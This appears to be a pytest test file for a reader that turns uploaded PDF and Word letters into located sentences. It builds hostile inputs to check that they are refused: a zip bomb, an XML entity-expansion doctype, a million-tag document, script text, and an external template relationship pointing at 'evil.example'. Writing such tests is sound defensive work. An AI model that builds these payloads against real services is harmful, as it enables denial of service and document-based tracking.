"""A letter as it comes in: its text with its place, or one sentence that says what to do."""

import os
import socket
import time
from collections.abc import Callable
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from reports.letter import opening
from reports.letter.limits import MOST_BYTES, MOST_PAGES
from reports.letter.reading import WrongLetter, read_letter
from tests.documents import letter as empty_letter
from tests.documents import picture, workbook
from tests.letters import docx, locked, locked_with_aes, pdf, with_edges, with_footnote, with_parts

_TRACKED = (
    '<w:p><w:r><w:t xml:space="preserve">Er waren </w:t></w:r>'
    '<w:del w:id="1" w:author="x"><w:r><w:delText>900</w:delText></w:r></w:del>'
    '<w:ins w:id="2" w:author="x"><w:r><w:t>901</w:t></w:r></w:ins>'
    '<w:sdt><w:sdtContent><w:r><w:t xml:space="preserve"> aanslagen</w:t></w:r></w:sdtContent>'
    "</w:sdt></w:p>"
)


def _texts(data: bytes) -> list[tuple[str, str]]:
    return [(s.place, s.text) for s in read_letter(data).sentences]


def test_a_pdf_gives_sentences_with_their_page() -> None:
    data = pdf("In 2024 waren er 1.543\naanslagen. Dat is veel.", "Een tweede pagina.")

    assert _texts(data) == [
        ("bladzijde 1", "In 2024 waren er 1.543 aanslagen."),
        ("bladzijde 1", "Dat is veel."),
        ("bladzijde 2", "Een tweede pagina."),
    ]
    assert read_letter(data).pages == 2


def test_a_word_document_gives_paragraphs_and_rows_of_tables() -> None:
    data = docx("Eerste alinea. Nog een zin.", rows=[["Woning", "1.119"], ["Bedrijf", "230"]])

    assert _texts(data) == [
        ("alinea 1", "Eerste alinea."),
        ("alinea 1", "Nog een zin."),
        ("tabel 1, rij 1", "Woning | 1.119"),
        ("tabel 1, rij 2", "Bedrijf | 230"),
    ]


def test_the_footnotes_of_a_word_document_are_read_too() -> None:
    data = with_footnote(docx("Tekst."), "Bron: 1.543 meldingen.")

    assert _texts(data)[-1] == ("voetnoot 1", "Bron: 1.543 meldingen.")


def test_headers_and_footers_of_a_word_document_are_read_once() -> None:
    data = with_edges(docx("Tekst."), header="Er waren 12 zaken.", footer="Bladzijde van 2026.")

    assert _texts(data) == [
        ("alinea 1", "Tekst."),
        ("koptekst", "Er waren 12 zaken."),
        ("voettekst", "Bladzijde van 2026."),
    ]


def test_a_word_document_with_a_link_is_read() -> None:
    link = (
        '<w:p><w:hyperlink xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships" w:anchor="x"><w:r><w:t>Er waren 12 zaken.</w:t></w:r></w:hyperlink></w:p>'
    )
    data = docx("Begin.", parts={"<w:sectPr": f"{link}<w:sectPr"})

    assert _texts(data)[-1] == ("alinea 2", "Er waren 12 zaken.")


def test_inserted_text_is_read_and_removed_text_is_not() -> None:
    data = docx("Begin.", parts={"<w:sectPr": f"{_TRACKED}<w:sectPr"})
    read = read_letter(data)

    assert read.sentences[-1].text == "Er waren 901 aanslagen"
    assert read.has_changes
    assert not read_letter(docx("Begin.")).has_changes


def test_a_text_box_is_read_once() -> None:
    said = "<w:p><w:r><w:t>In het kader: 39.</w:t></w:r></w:p>"
    box = f"<w:r><w:txbxContent>{said}</w:txbxContent></w:r>"
    inside = (
        '<w:p><mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility'
        f'/2006"><mc:Choice Requires="wps">{box}</mc:Choice><mc:Fallback>{box}</mc:Fallback>'
        "</mc:AlternateContent></w:p>"
    )
    data = docx("Begin.", parts={"<w:sectPr": f"{inside}<w:sectPr"})

    assert [text for _, text in _texts(data)].count("In het kader: 39.") == 1


def test_a_pdf_that_only_forbids_printing_is_read() -> None:
    assert _texts(locked(pdf("Er waren 12 zaken."), password=""))[0][1] == "Er waren 12 zaken."


def _bomb() -> bytes:
    """A part of 300 MB in a file of 300 kB."""
    content = BytesIO(docx("Tekst."))
    with ZipFile(content, "a", ZIP_DEFLATED) as archive, archive.open("word/big.xml", "w") as part:
        for _ in range(300):
            part.write(b" " * 1024**2)
    return content.getvalue()


def _entities() -> bytes:
    doctype = '<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    data = docx("Tekst.")
    with ZipFile(BytesIO(data)) as archive:
        head = archive.read("word/document.xml").decode().split("<w:document")[0]
    return with_parts(data, {head: head + doctype})


def _many_tags() -> bytes:
    return docx("Tekst.", parts={"<w:sectPr": "<w:p/>" * 1_600_000 + "<w:sectPr"})


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "empty": (lambda: b"", "is leeg"),
    "only blanks": (lambda: b" \n ", "is leeg"),
    "too big": (lambda: b"%PDF-" + b"x" * MOST_BYTES, "groter dan 30 MB"),
    "a picture": (lambda: picture("PNG"), "geen pdf en geen Word-document"),
    "a workbook": (workbook, "kan niet worden gelezen"),
    "plain text": (lambda: b"In 2024 waren er 1.543.", "geen pdf en geen Word-document"),
    "an old Word file": (lambda: OLE + b"0" * 600, "oud Word-document"),
    "a password": (lambda: locked(pdf("Geheim"), password="x"), "heeft een wachtwoord"),
    "a newer password": (lambda: locked_with_aes("Geheim"), "heeft een wachtwoord"),
    "a scan": (lambda: pdf(""), "geen tekst die de computer kan lezen"),
    "a Word file without text": (lambda: docx(""), "geen tekst die de computer kan lezen"),
    "half a Word file": (lambda: docx("Tekst " * 500)[:9000], "kan niet worden gelezen"),
    "a Word file that is none": (empty_letter, "kan niet worden gelezen"),
    "a PDF that is none": (lambda: b"%PDF-1.7\nxref\n" + b"\xff" * 500, "kan niet worden gelezen"),
    "1,000 pages": (lambda: pdf(*["Een bladzijde."] * 1000), f"meer dan {MOST_PAGES} bladzijden"),
    "a zip bomb": (_bomb, "veel meer dan in een brief hoort"),
    "entities": (_entities, "veel meer dan in een brief hoort"),
    "a million tags": (_many_tags, "veel meer dan in een brief hoort"),
    "far too much text": (lambda: docx(*["woord " * 1000] * 120), "veel meer dan in een brief"),
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_file_gets_one_sentence_and_soon(name: str) -> None:
    make, sentence = HOSTILE[name]
    data = make()
    began = time.monotonic()

    with pytest.raises(WrongLetter, match=sentence) as refusal:
        read_letter(data)

    assert str(refusal.value).endswith("Er is niets opgeslagen en eerdere controles zijn er nog.")
    assert time.monotonic() - began < 20


def test_what_looks_like_a_script_is_only_text() -> None:
    text = "<script>alert('1.543')</script> {{ x }} \N{RIGHT-TO-LEFT OVERRIDE}1.543 aanslagen."

    assert "<script>alert" in read_letter(docx(text)).sentences[0].text


def test_a_word_of_half_a_million_letters_is_no_problem() -> None:
    found = read_letter(docx("w" * 500_000)).sentences

    assert max(len(sentence.text) for sentence in found) <= 1_200


def test_the_process_has_nothing_of_the_portal_and_ends_in_time() -> None:
    os.environ["SECRET_KEY_OF_A_TEST"] = "x"
    try:
        read = read_letter(docx("Tekst."))
    finally:
        del os.environ["SECRET_KEY_OF_A_TEST"]

    assert read.sentences
    with pytest.raises(WrongLetter, match="kan niet worden gelezen"):
        read_letter(docx("Tekst."), seconds=0.01)


def test_reading_asks_nothing_of_the_network(monkeypatch: pytest.MonkeyPatch) -> None:
    """A template elsewhere and a picture elsewhere are how Word documents call home."""
    relation = (
        '<Relationship Id="rId98" TargetMode="External" Target="http://evil.example/x.dotm" Type='
        '"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
    )
    content = BytesIO()
    with ZipFile(BytesIO(docx("Tekst."))) as source, ZipFile(content, "w") as target:
        for name in source.namelist():
            part = source.read(name).replace(
                b"</Relationships>", relation.encode() + b"</Relationships>"
            )
            target.writestr(name, part)

    def refuse(*_: object) -> None:
        raise AssertionError("somebody asked for an address")

    monkeypatch.setattr(socket, "getaddrinfo", refuse)

    assert opening.answer(content.getvalue())["kind"] == "docx"
    assert opening.answer(pdf("Tekst."))["kind"] == "pdf"


@given(st.binary(max_size=300), st.integers(0, 3000), st.sampled_from(["pdf", "docx"]))
@settings(max_examples=100, deadline=None)
def test_any_damage_ends_in_an_answer(noise: bytes, at: int, kind: str) -> None:
    data = _PDF if kind == "pdf" else _DOCX
    told = opening.answer(data[:at] + noise + data[at + len(noise) :])

    assert set(told) in ({"fault"}, {"kind", "pages", "blocks", "has_changes"})


_PDF, _DOCX = pdf("In 2024 waren er 1.543 aanslagen."), docx("In 2024 waren er 1.543 aanslagen.")
